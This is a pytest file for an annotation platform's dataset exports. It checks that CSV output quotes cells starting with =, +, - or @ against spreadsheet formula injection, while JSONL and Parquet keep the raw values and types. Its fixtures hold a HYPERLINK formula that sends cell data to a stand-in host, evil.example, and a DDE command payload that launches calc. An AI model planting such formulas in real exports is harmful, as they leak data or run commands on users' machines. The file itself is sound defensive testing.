"""Exports keep every value's type, and CSV never hands a spreadsheet a formula.

Free text that raters, judges or uploads supply goes into CSV with a leading single quote
when it begins with =, +, - or @ (OWASP CSV injection), and stays raw in JSONL and Parquet.
Booleans in CSV are true/false; Parquet keeps each column's type.
"""

from __future__ import annotations

import csv
import io
import json

import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from django.urls import reverse

from annotation.datasets import export_chunks
from annotation.datasets.spreadsheet import spreadsheet_safe, spreadsheet_safe_column
from annotation.reports.ratings import LONG_SCHEMA
from tests.conftest import make_user
from tests.reports.factories import submit

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
ITEM_ID = "=cmd|' /C calc'!A0"


def _items() -> str:
    rows = [
        {"id": ITEM_ID, "context": "a review", "outputs": [{"system": "+sys", "content": "x"},
                                                           {"system": "007", "content": "y"}]},
        {"id": "0042", "context": "another", "outputs": [{"system": "@sys", "content": "z"},
                                                          {"system": "-sys", "content": "w"}]},
    ]
    return "".join(json.dumps(r) + "\n" for r in rows)


@pytest.fixture
def hostile_study(make_study, researcher):
    raters = [make_user("@mallory"), make_user("-eve")]
    study = make_study("rrgen-001", annotators=raters, researchers=[researcher], items_text=_items())
    first, second = study.items.order_by("id")
    for r, rater in enumerate(raters):
        submit(study, rater, first, {(0, "fluency"): 4 + r, (1, "fluency"): 2, (0, "decision"): "ACCEPT",
                                     (1, "decision"): "REJECT"},
               comment=HYPERLINK, reasoning="+1 for tone, -1 for length")
    submit(study, raters[0], second, {}, ignored=True, ignore_reason="-unsuitable review")
    submit(study, raters[1], second, {(0, "fluency"): 3, (1, "fluency"): 5, (0, "decision"): "@ACCEPT",
                                      (1, "decision"): "REJECT"}, reasoning="@team fine")
    return study


def _csv(study) -> list[dict]:
    return list(csv.DictReader(io.StringIO(b"".join(export_chunks(study, "csv")).decode())))


def test_helper_quotes_only_formula_text():
    assert spreadsheet_safe("=1+1") == "'=1+1"
    assert [spreadsheet_safe(v) for v in ("+a", "-a", "@a")] == ["'+a", "'-a", "'@a"]
    assert spreadsheet_safe("a=1") == "a=1" and spreadsheet_safe("") == ""
    assert spreadsheet_safe(-1.5) == -1.5 and spreadsheet_safe(None) is None
    mixed = pd.Series(["=a", None, "b", "-1", 3.5, "@x"], dtype=object)
    assert spreadsheet_safe_column(mixed).tolist() == [spreadsheet_safe(v) for v in mixed]
    assert spreadsheet_safe_column(pd.Series([1.0, -2.0])).tolist() == [1.0, -2.0]


def test_csv_neutralises_free_text_and_writes_true_false(hostile_study):
    rows = _csv(hostile_study)
    assert {r["item"] for r in rows} == {"'" + ITEM_ID, "0042"}
    assert {r["system"] for r in rows if r["system"]} == {"'+sys", "007", "'@sys", "'-sys"}
    assert {r["rater"] for r in rows} == {"'@mallory", "'-eve"}
    assert {r["comment"] for r in rows if r["comment"]} == {"'" + HYPERLINK}
    assert {r["reasoning"] for r in rows if r["reasoning"]} == {"'+1 for tone, -1 for length", "'@team fine"}
    assert {r["ignore_reason"] for r in rows if r["ignore_reason"]} == {"'-unsuitable review"}
    assert {r["value"] for r in rows if r["criterion"] == "decision"} == {"ACCEPT", "REJECT", "'@ACCEPT"}
    assert {r["ignored"] for r in rows} == {"true", "false"}
    assert {r["is_attention_check"] for r in rows} == {"false"}
    for r in rows:  # no cell a spreadsheet would run
        assert not any(v.startswith(("=", "+", "-", "@")) for v in r.values() if v), r


def test_a_negative_number_stays_a_number_in_csv(hostile_study):
    item = hostile_study.items.get(external_id="0042")
    submit(hostile_study, make_user("mallet"), item, {(0, "fluency"): -1})  # beside the scale: still a number
    value = next(r["value"] for r in _csv(hostile_study) if r["rater"] == "mallet")
    assert value == "-1"


def test_jsonl_and_parquet_keep_the_raw_text_and_the_types(hostile_study):
    objs = [json.loads(x) for x in b"".join(export_chunks(hostile_study, "jsonl")).decode().splitlines()]
    assert {o["item"] for o in objs} == {ITEM_ID, "0042"}
    assert {o["comment"] for o in objs if o["comment"]} == {HYPERLINK}
    assert {o["rater"] for o in objs} == {"@mallory", "-eve"}
    assert {o["ignored"] for o in objs} == {True, False}
    assert all(isinstance(o["value"], int) for o in objs if o["criterion"] == "fluency")

    table = pq.read_table(io.BytesIO(b"".join(export_chunks(hostile_study, "parquet"))))
    assert table.schema.remove_metadata() == LONG_SCHEMA
    assert table.schema.field("item").type == pa.string() and table.schema.field("system").type == pa.string()
    rows = table.to_pylist()
    assert {r["item"] for r in rows} == {ITEM_ID, "0042"}  # "0042" stays text, not 42
    assert {r["system"] for r in rows if r["system"]} == {"+sys", "007", "@sys", "-sys"}
    assert {r["comment"] for r in rows if r["comment"]} == {HYPERLINK}
    assert {r["ignored"] for r in rows} == {True, False}
    assert {type(r["output"]) for r in rows if r["output"] is not None} == {int}


def test_consensus_csv_neutralises_ids_and_names(hostile_study):
    hostile_study.consensus_min_raters = 1  # so that item 0042, rated once, has a consensus too
    hostile_study.save(update_fields=["consensus_min_raters"])
    text = b"".join(export_chunks(hostile_study, "consensus")).decode()
    rows = list(csv.DictReader(io.StringIO(text)))
    assert {r["item"] for r in rows} == {"'" + ITEM_ID, "0042"}
    assert {r["system"] for r in rows} >= {"'+sys", "007"}
    assert {r["system"] for r in rows if r["item"] == "0042"} == {"'@sys", "'-sys"}
    # "@ACCEPT" is no option of the rubric: it is in the ratings export, never a majority label
    assert {r["majority"] for r in rows if r["criterion"] == "decision"} == {"ACCEPT", "REJECT"}
    for r in rows:
        assert not any(v.startswith(("=", "+", "-", "@")) for v in r.values() if v), r


def test_report_csv_neutralises_names_and_writes_true_false(hostile_study, client_for, researcher):
    response = client_for(researcher).get(reverse("report", args=[hostile_study.slug]), {"download": "csv"})
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    raters = {r["subject"] for r in rows if r["section"] == "raters"}
    assert raters == {"'@mallory", "'-eve"}
    accepted = [r["value"] for r in rows if r["statistic"] == "icc1_accepted"]
    assert accepted and set(accepted) <= {"true", "false", ""}
